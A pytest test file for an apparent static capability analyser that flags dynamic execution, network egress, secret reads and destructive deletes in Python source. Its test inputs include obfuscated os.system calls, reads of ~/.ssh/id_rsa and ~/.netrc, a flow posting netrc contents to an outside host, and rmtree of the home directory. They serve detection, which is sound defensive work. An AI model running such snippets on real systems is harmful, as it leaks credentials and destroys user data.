"""The abstract interpreter: folding and taint inside one Python file."""

from __future__ import annotations

import pytest

from lemon_core.auditor_kit.capabilities import python
from lemon_core.auditor_kit.capabilities.model import (
    DESTRUCTION,
    DYNAMIC_EXEC,
    NETWORK_EGRESS,
    SECRET_READ,
    UNRESOLVED,
)


def facts(src: str) -> dict[str, list[python.Fact]]:  # type: ignore[name-defined]
    out: dict[str, list] = {}
    for fact in python.analyse("t.py", src).facts:
        out.setdefault(fact.kind, []).append(fact)
    return out


def test_folded_values_reach_the_fact() -> None:
    found = facts("import os\nos.system('cu' + 'rl' + ' https://x.example')\n")
    assert found[DYNAMIC_EXEC][0].value == "curl https://x.example"
    found = facts("import requests\nBASE = 'https://api.%s' % 'example.com'\n"
                  "requests.get('{}/v1'.format(BASE))\n")
    assert found[NETWORK_EGRESS][0].value == "https://api.example.com/v1"
    found = facts("from pathlib import Path\np = Path.home() / '.ssh' / 'id_rsa'\n"
                  "p.read_text()\n")
    assert found[SECRET_READ][0].value == "~/.ssh/id_rsa"


def test_loops_over_constants_are_unrolled() -> None:
    found = facts("import os\ns = ''\nfor c in [108, 115]:\n    s += chr(c)\nos.system(s)\n")
    assert found[DYNAMIC_EXEC][0].value == "ls"


def test_taint_flows_through_assignments_calls_and_fstrings() -> None:
    src = ("import os, requests\n"
           "def load():\n    return open(os.path.expanduser('~/.netrc')).read()\n"
           "class Client:\n"
           "    def __init__(self, url):\n        self.url = url\n"
           "    def send(self, data):\n        requests.post(self.url, data=f'x={data}')\n"
           "Client('https://c.example/in').send(load())\n")
    [sink] = facts(src)[NETWORK_EGRESS]
    assert sink.value == "https://c.example/in"
    assert {s.label for s in sink.carries} == {"~/.netrc"}


def test_a_hidden_callee_is_marked_and_an_unresolvable_one_is_a_fact() -> None:
    found = facts("m = __import__('o' + 's')\ngetattr(m, 'sys' + 'tem')('ls')\n")
    assert found[DYNAMIC_EXEC][0].hidden and found[DYNAMIC_EXEC][0].callee == "os.system"
    found = facts("import importlib, sys\nimportlib.import_module(sys.argv[1])\n")
    assert UNRESOLVED in found


def test_deletes_of_home_and_of_project_files() -> None:
    assert DESTRUCTION in facts("import shutil, os\nshutil.rmtree(os.path.expanduser('~'))\n")
    assert DESTRUCTION not in facts("import shutil\nshutil.rmtree('build')\n")


@pytest.mark.slow
def test_budgets_end_the_analysis_without_raising() -> None:
    body = "def f(x):\n    return g(x) + g(x)\ndef g(x):\n    return f(x) + f(x)\nf(1)\n"
    assert python.analyse("t.py", body).parsed
    huge = "x = 1\n" * (python.MAX_STEPS + 10)
    assert python.analyse("t.py", huge).parsed


def test_files_that_do_not_parse_say_why() -> None:
    result = python.analyse("t.py", "print 'py2'\n")
    assert not result.parsed and result.error_line == 1 and result.error
